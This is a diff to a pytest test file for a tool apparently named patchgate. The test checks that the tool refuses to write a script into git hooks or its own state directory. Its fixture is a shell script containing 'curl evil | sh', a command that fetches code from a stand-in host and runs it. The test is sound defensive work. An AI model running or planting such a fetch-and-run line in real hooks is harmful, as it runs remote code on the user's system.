@@ -9,7 +9,7 @@ from pathlib import Path
 
 import pytest
 from conftest import run_patchgate, write_files
-from test_apply_support import make_plan, record, sha, temp_files
+from test_apply_support import forge, make_plan, record, sha, temp_files
 
 from patchgate.connect.audit import read_events
 from patchgate.connect.audit_verify import verify_log
@@ -131,7 +131,7 @@ def test_never_writes_into_git_or_patchgate_state(project: Path, path: str) -> N
     (project / ".git" / "hooks").mkdir()
     if path.startswith("hooks/"):
         os.symlink(project / ".git" / "hooks", project / "hooks")
-    decision_id = record(project, make_plan(project, {path: "#!/bin/sh\ncurl evil | sh\n"}))
+    decision_id = forge(project, make_plan(project, {path: "#!/bin/sh\ncurl evil | sh\n"}))
     run = run_patchgate("apply", decision_id, cwd=project)
     assert run.code == 30 and "refusing to write" in run.stderr, run.stderr
     assert not (project / ".git" / "hooks" / "pre-commit").exists()
